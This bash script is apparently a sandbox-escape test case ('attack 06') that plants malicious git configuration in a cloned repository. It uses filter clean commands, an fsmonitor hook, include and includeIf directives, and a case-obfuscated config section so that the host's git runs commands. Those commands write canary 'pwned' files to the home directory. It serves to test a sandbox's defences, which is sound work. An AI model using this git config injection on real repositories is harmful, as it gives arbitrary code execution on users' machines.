#!/usr/bin/env bash
# attack 06 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
for k in wt inc iif onb raw; do echo x >"attack-06.$k"; printf '*.%s filter=f%s\n' "$k" "$k"; done >attack-06.attributes
git add attack-06.*; commit -m 'attack 06'
mkdir -p .git/info; cat attack-06.attributes >>.git/info/attributes
sect() { printf '[filter "f%s"]\n\tclean = "date >>'"'%s/pwned-06-%s'"'; cat"\n' "$1" "$H" "$1"; }
git config core.repositoryformatversion 1; git config extensions.worktreeConfig true
{ sect wt; printf '[core]\n\tfsmonitor = "date >>'"'%s/pwned-06-fsmonitor'"'; :"\n' "$H"; } >.git/config.worktree
sect inc >.git/description.inc; sect iif >.git/info/refs.inc; sect onb >attack-06.cfg
{
  printf '[include]\n\tpath = description.inc\n'
  printf '[includeIf "gitdir:/**"]\n\tpath = info/refs.inc\n'
  printf '[includeIf "onbranch:**"]\n\tpath = ../attack-06.cfg\n'
  printf '[FiLtEr "fraw"] ClEaN = date >>\\\n"'"'%s/pwned-06-raw'"'; cat" ; remark\n' "$H"
} >>.git/config
for k in wt inc iif onb raw; do echo y >>"attack-06.$k"; done
exit 0
